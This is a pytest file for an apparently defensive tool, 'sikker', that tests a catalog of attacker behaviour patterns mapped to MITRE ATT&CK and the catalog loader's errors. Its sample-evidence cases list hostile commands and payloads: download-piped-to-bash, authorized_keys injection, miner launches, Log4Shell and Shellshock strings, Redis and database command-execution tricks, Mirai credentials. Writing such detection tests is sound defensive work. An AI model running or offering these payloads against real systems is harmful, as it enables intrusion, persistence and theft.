"""The editorial catalog: the shipped file's invariants and the loader's errors."""

import json
import re
from fnmatch import fnmatchcase
from pathlib import Path

import pytest

from sikker.builder.catalog import (
    ACTIONS,
    FIELDS,
    MATCH_KINDS,
    Catalog,
    Primitive,
    load_catalog,
    parse_catalog,
)
from sikker.core.vocab import PROTOCOLS, SEVERITIES
from sikker.errors import CatalogError, SikkerError


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalog()


def matches(primitive: Primitive, value: str) -> bool:
    """The documented match semantics, for checking sample evidence."""
    pattern = primitive.pattern
    return {
        "regex": lambda: re.search(pattern, value) is not None,
        "contains": lambda: pattern in value,
        "equals": lambda: pattern == value,
        "prefix": lambda: value.startswith(pattern),
        "glob": lambda: fnmatchcase(value, pattern),
    }[primitive.match]()


def test_shipped_catalog_has_at_least_60_behaviors_over_10_protocols(catalog):
    covered = {p for b in catalog.behaviors for p in b.protocols}
    assert len(catalog.behaviors) >= 60
    assert len(covered) >= 10
    assert covered <= set(PROTOCOLS)


def test_shipped_ids_are_unique_slugs(catalog):
    for entries in (catalog.behaviors, catalog.primitives):
        ids = [e.id for e in entries]
        assert len(ids) == len(set(ids))
        assert all(re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", i) for i in ids)


def test_shipped_references_resolve_and_share_a_protocol(catalog):
    for behavior in catalog.behaviors:
        assert behavior.all_of or behavior.any_of
        for primitive_id in behavior.primitive_ids:
            primitive = catalog.primitive(primitive_id)
            assert set(primitive.protocols) & set(behavior.protocols)


def test_every_shipped_primitive_is_used_by_a_behavior(catalog):
    used = {p for b in catalog.behaviors for p in b.primitive_ids}
    assert [p.id for p in catalog.primitives if p.id not in used] == []


def test_shipped_patterns_compile_and_fields_are_known(catalog):
    for primitive in catalog.primitives:
        assert primitive.field in FIELDS
        assert primitive.match in MATCH_KINDS
        if primitive.match == "regex":
            re.compile(primitive.pattern)
        if primitive.field == "action":
            assert primitive.pattern in ACTIONS


def test_shipped_behaviors_have_severity_and_attack_ids(catalog):
    for behavior in catalog.behaviors:
        assert behavior.severity in SEVERITIES
        assert behavior.mitre
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in behavior.mitre)
    assert {b.severity for b in catalog.behaviors} == set(SEVERITIES)


@pytest.mark.parametrize(
    ("primitive_id", "value"),
    [
        ("cmd-chattr-unlock", "cd ~; chattr -ia .ssh; lockr -ia .ssh"),
        (
            "cmd-authorized-keys-write",
            'echo "ssh-rsa AAAAB3Nza mdrfckr">>.ssh/authorized_keys',
        ),
        ("cmd-mdrfckr-key", "echo ssh-rsa AAAA mdrfckr >> ~/.ssh/authorized_keys"),
        ("cmd-uname-all", "uname -a; cat /proc/cpuinfo | grep name | wc -l"),
        ("cmd-cpu-count", "nproc"),
        ("cmd-busybox-applet-probe", "/bin/busybox ECCHI"),
        ("cmd-hex-echo-write", r"echo -ne '\x7f\x45\x4c\x46\x01\x01' > .d"),
        ("cmd-echo-elf-header", r"echo -ne '\x7f\x45\x4c\x46\x01\x01' > .d"),
        ("cmd-download-pipe-shell", "curl -s http://198.51.100.7/x.sh | bash"),
        ("cmd-base64-pipe-shell", "echo Y2Qg | base64 -d | bash"),
        ("cmd-miner-launch", "./xmrig -o pool.supportxmr.com:3333 --donate-level 1"),
        ("cred-mirai-defaults", "root:xc3511"),
        ("url-multi-arch-payload", "http://198.51.100.7/bins/x86"),
        ("url-miner", "http://198.51.100.7/xmrig-6.21.0-linux-static-x64.tar.gz"),
        ("http-cgi-traversal", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
        ("http-jndi-lookup", "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"),
        ("http-jndi-lookup", "X-Api: ${${lower:j}ndi:ldap://x/a}"),
        (
            "http-phpunit-eval-stdin",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ),
        ("http-env-file", "/.env"),
        ("http-router-exploit", "/GponForm/diag_Form?images/"),
        ("http-shellshock", "User-Agent: () { :; }; /bin/bash -c id"),
        ("redis-config-dir", "CONFIG SET dir /var/spool/cron/"),
        ("redis-dir-cron", "config set dir /var/spool/cron/crontabs"),
        ("redis-config-dbfilename", "config set dbfilename root"),
        ("redis-replicaof", "SLAVEOF 198.51.100.7 6379"),
        ("docker-create", "/v1.41/containers/create"),
        ("docker-host-bind", '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}'),
        ("es-script-exec", '{"script": "java.lang.Runtime.getRuntime().exec(\'id\')"}'),
        ("mongo-ransom-note", "All your data is backed up. Send 0.01 BTC to recover"),
        ("mssql-enable-advanced", "EXEC sp_configure 'xp_cmdshell', 1"),
        ("pg-copy-program", "COPY cmd_exec FROM PROGRAM 'id'"),
        ("smb-ipc-share", "\\\\192.0.2.1\\IPC$"),
        ("rtsp-stream-path", "/Streaming/Channels/101"),
        ("sip-scanner-agent", "friendly-scanner"),
        ("sip-international-call", "sip:011972592345678@192.0.2.1"),
        ("email-username", "alice@example.com"),
    ],
)
def test_shipped_primitives_match_real_looking_evidence(catalog, primitive_id, value):
    assert matches(catalog.primitive(primitive_id), value)


@pytest.mark.parametrize(
    ("primitive_id", "value"),
    [
        ("cmd-whoami", "cat /etc/idmapd.conf"),
        ("redis-replicaof", "REPLICAOF NO ONE"),
        ("http-env-file", "/environment"),
        ("cred-mirai-defaults", "root:correct-horse-battery"),
    ],
)
def test_shipped_primitives_ignore_lookalikes(catalog, primitive_id, value):
    assert not matches(catalog.primitive(primitive_id), value)


def test_indexes_follow_file_order(catalog):
    for i, behavior in enumerate(catalog.behaviors):
        assert catalog.behavior_index(behavior.id) == i
        assert catalog.behavior(behavior.id) is behavior
    for i, primitive in enumerate(catalog.primitives):
        assert catalog.primitive_index(primitive.id) == i
    with pytest.raises(KeyError, match="no-such-behavior"):
        catalog.behavior_index("no-such-behavior")


def test_snapshot_form_is_plain_json_in_file_order(catalog):
    snapshot = json.loads(json.dumps(catalog.to_snapshot()))
    assert [b["id"] for b in snapshot["behaviors"]] == [b.id for b in catalog.behaviors]
    assert [p["id"] for p in snapshot["primitives"]] == [
        p.id for p in catalog.primitives
    ]
    first = snapshot["behaviors"][0]
    assert {
        "name",
        "severity",
        "protocols",
        "mitre",
        "description",
        "all",
        "any",
    } <= set(first)


GOOD_PRIMITIVE = """
[[primitive]]
id = "cmd-uname"
description = "uname"
protocols = ["ssh"]
field = "command"
match = "regex"
pattern = 'uname\\s+-a'
"""
GOOD_BEHAVIOR = """
[[behavior]]
id = "fingerprint"
name = "Fingerprint"
description = "Asks the kernel."
severity = "low"
protocols = ["ssh"]
mitre = ["T1082"]
all = ["cmd-uname"]
"""


def test_a_catalog_file_loads_from_a_path(tmp_path):
    path = tmp_path / "catalog.toml"
    path.write_text(GOOD_PRIMITIVE + GOOD_BEHAVIOR)
    catalog = load_catalog(path)
    assert [b.id for b in catalog.behaviors] == ["fingerprint"]
    assert catalog.behavior("fingerprint").level == 1


@pytest.mark.parametrize(
    ("replace", "by", "named"),
    [
        ('protocols = ["ssh"]\nmitre', 'protocols = ["gopher"]\nmitre', "'gopher'"),
        ('severity = "low"', 'severity = "extreme"', "'severity'"),
        ('all = ["cmd-uname"]', 'all = ["cmd-missing"]', "'cmd-missing'"),
        ("pattern = 'uname\\s+-a'", "pattern = 'uname(['", "'pattern'"),
        ('name = "Fingerprint"\n', "", "'name'"),
        ('all = ["cmd-uname"]', "", "'all'"),
        ('mitre = ["T1082"]', 'mitre = ["TA0007"]', "'mitre'"),
        ('match = "regex"', 'match = "fuzzy"', "'match'"),
        ('field = "command"', 'field = "telepathy"', "'field'"),
        ('severity = "low"', 'severity = "low"\nweight = 3', "'weight'"),
    ],
)
def test_each_catalog_error_names_the_entry_and_field(tmp_path, replace, by, named):
    text = GOOD_PRIMITIVE + GOOD_BEHAVIOR
    assert replace in text
    path = tmp_path / "bad.toml"
    path.write_text(text.replace(replace, by, 1))
    with pytest.raises(CatalogError) as caught:
        load_catalog(path)
    message = str(caught.value)
    assert str(path) in message
    assert "'fingerprint'" in message or "'cmd-uname'" in message
    assert named in message


def test_duplicate_ids_are_reported(tmp_path):
    path = tmp_path / "dup.toml"
    path.write_text(GOOD_PRIMITIVE + GOOD_PRIMITIVE + GOOD_BEHAVIOR)
    with pytest.raises(CatalogError, match="primitive 'cmd-uname': duplicate id"):
        load_catalog(path)


def test_a_primitive_for_other_protocols_cannot_be_referenced():
    text = GOOD_PRIMITIVE + GOOD_BEHAVIOR.replace('["ssh"]', '["redis"]')
    with pytest.raises(
        CatalogError, match=r"'fingerprint'.*'cmd-uname' applies to none"
    ):
        parse_catalog(text)


def test_unknown_actions_are_rejected():
    text = (
        GOOD_PRIMITIVE.replace('field = "command"', 'field = "action"')
        .replace('match = "regex"', 'match = "equals"')
        .replace("pattern = 'uname\\s+-a'", 'pattern = "login_maybe"')
    )
    with pytest.raises(
        CatalogError, match=r"'cmd-uname'.*unknown action 'login_maybe'"
    ):
        parse_catalog(text)


def test_entries_without_an_id_are_named_by_position():
    with pytest.raises(CatalogError, match=r"primitive #1: field 'id': missing field"):
        parse_catalog(GOOD_PRIMITIVE.replace('id = "cmd-uname"\n', ""))


def test_invalid_toml_and_unreadable_files_raise_catalog_errors(tmp_path):
    with pytest.raises(CatalogError, match="invalid TOML"):
        parse_catalog("[[behavior]\nid = ")
    with pytest.raises(CatalogError, match="cannot read"):
        load_catalog(tmp_path / "missing.toml")
    with pytest.raises(CatalogError, match="unknown top-level key 'behaviour'"):
        parse_catalog("[[behaviour]]\nid = 'x'\n")


def test_catalog_error_is_a_value_error_and_a_sikker_error():
    assert issubclass(CatalogError, ValueError)
    assert issubclass(CatalogError, SikkerError)


def test_the_shipped_file_is_package_data():
    import sikker.builder

    shipped = Path(sikker.builder.__file__).parent / "data" / "catalog.toml"
    assert shipped.is_file()
